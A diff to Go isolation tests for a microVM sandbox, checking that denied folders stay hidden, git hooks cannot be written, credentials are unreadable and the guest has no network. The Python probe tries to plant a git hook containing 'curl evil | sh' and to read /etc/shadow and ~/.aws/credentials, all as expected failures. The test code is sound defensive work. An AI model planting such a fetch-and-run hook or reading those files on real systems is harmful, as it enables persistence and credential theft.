@@ -80,7 +80,8 @@ func qemuPids() []int {
 
 // TestIsolationMicroVM: in one boot, a granted file is read and an
 // fs_write grant receives the output (owned by the caller), credentials
-// outside the grants do not exist, no connection reaches a listener on the
+// outside the grants do not exist, an fs_deny path inside a grant is
+// hidden and an existing git hooks folder is read-only, no connection reaches a listener on the
 // host's loopback (or anywhere: the guest has no network device), the
 // command runs on the guest's own kernel, and the report names the backend,
 // the guest kernel and the accelerator. Then the refusals that need no
@@ -99,12 +100,24 @@ func TestIsolationMicroVM(t *testing.T) {
 	defer ln.Close()
 	go acceptCount(ln, &hits)
 	host := strings.Split(ln.Addr().String(), ":")
+	denied := filepath.Join(tr.work, "private")
+	if err := os.MkdirAll(denied, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(denied, "key.pem"), []byte("DENIED-KEY"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	gitRepo(t, tr.out)
 	code := fmt.Sprintf(`
 import os, socket, sys
 bad = []
 print(open(%q).read().strip())
 open(%q, "w").write("written in the guest")
-for p in [%q, %q, "/etc/shadow", "/root"]:
+try:
+    open(%q, "w").write("curl evil | sh"); bad.append("wrote a git hook")
+except OSError:
+    pass
+for p in [%q, %q, "/etc/shadow", "/root", %q]:
     try:
         os.listdir(p) if p == "/root" else open(p).read(); bad.append("read " + p)
     except OSError:
@@ -116,8 +129,9 @@ for h, port in [(%q, %s), ("10.0.2.2", 80), ("1.1.1.1", 443)]:
         pass
 print("kernel", os.uname().release)
 print("bad", bad)
-sys.exit(1 if bad else 0)`, tr.work+"/data.csv", tr.out+"/vm.txt", tr.secret, filepath.Join(tr.home, ".aws", "credentials"), host[0], host[1])
-	rep := runVM(t, init, policy.Spec{FSRead: []string{tr.work}, FSWrite: []string{tr.out}, AllowDowngrade: []string{"staged_writes"}}, "/usr/bin/python3", "-c", code)
+sys.exit(1 if bad else 0)`, tr.work+"/data.csv", tr.out+"/vm.txt", tr.out+"/.git/hooks/post-checkout", tr.secret, filepath.Join(tr.home, ".aws", "credentials"),
+		filepath.Join(denied, "key.pem"), host[0], host[1])
+	rep := runVM(t, init, policy.Spec{FSRead: []string{tr.work}, FSWrite: []string{tr.out}, FSDeny: []string{denied}, AllowDowngrade: []string{"staged_writes"}}, "/usr/bin/python3", "-c", code)
 	wantExit(t, rep, 0)
 	if !strings.Contains(rep.Stdout, "x,y") || !strings.Contains(rep.Stdout, "bad []") {
 		t.Fatalf("stdout = %q, stderr = %q", rep.Stdout, rep.Stderr)
@@ -142,6 +156,9 @@ sys.exit(1 if bad else 0)`, tr.work+"/data.csv", tr.out+"/vm.txt", tr.secret, fi
 	}
 	if fuid(fi) != uint32(os.Getuid()) {
 		t.Fatalf("vm.txt belongs to uid %d, not to the caller %d", fuid(fi), os.Getuid())
+	}
+	if _, err := os.Lstat(filepath.Join(tr.out, ".git/hooks/post-checkout")); err == nil {
+		t.Fatal("a git hook reached the host")
 	}
 	if p := qemuPids(); len(p) != 0 {
 		t.Fatalf("QEMU outlived the run: %v", p)
@@ -262,7 +279,14 @@ func TestIsolationMicroVMSession(t *testing.T) {
 	if err := os.Chmod(filepath.Dir(tr.root), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	p, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, AllowedTools: []string{"sh", "sleep", "cat"}, AllowDowngrade: []string{"staged_writes", "max_cpu"},
+	private := filepath.Join(tr.out, "private")
+	if err := os.MkdirAll(private, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(private, "key.pem"), []byte("DENIED-KEY"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	p, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, FSDeny: []string{private}, AllowedTools: []string{"sh", "sleep", "cat"}, AllowDowngrade: []string{"staged_writes", "max_cpu"},
 		Budget: budget.Limits{Wall: 90 * time.Second}})
 	if err != nil {
 		t.Fatal(err)
@@ -287,6 +311,19 @@ func TestIsolationMicroVMSession(t *testing.T) {
 	}
 	if got, err := s.Guard().Read(filepath.Join(tr.out, "result.txt")); err != nil || string(got) != "from the API\n" {
 		t.Fatalf("file API read = %q, %v", got, err)
+	}
+	// What QEMU serves the guest hides the fs_deny folder too, not only
+	// the guest's init: the VMM's own root shows it empty.
+	vmm := marked(t, nsinitVMM)
+	if len(vmm) != 1 {
+		t.Fatalf("VMM launchers: %v, want one", vmm)
+	}
+	ents, err := os.ReadDir(fmt.Sprintf("/proc/%d/root/export%s", vmm[0], private))
+	if err != nil || len(ents) != 0 {
+		t.Fatalf("the VMM's export of the fs_deny folder lists %v (%v), want it empty", ents, err)
+	}
+	if rep, err := s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat private/key.pem; echo rc=$?"}}); err != nil || strings.Contains(rep.Stdout, "DENIED") || !strings.Contains(rep.Stdout, "rc=1") {
+		t.Fatalf("reading the fs_deny file = %+v, %v", rep, err)
 	}
 	rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sleep", "30"}, Timeout: 2 * time.Second})
 	if err != nil || rep.HaltedBy == nil {
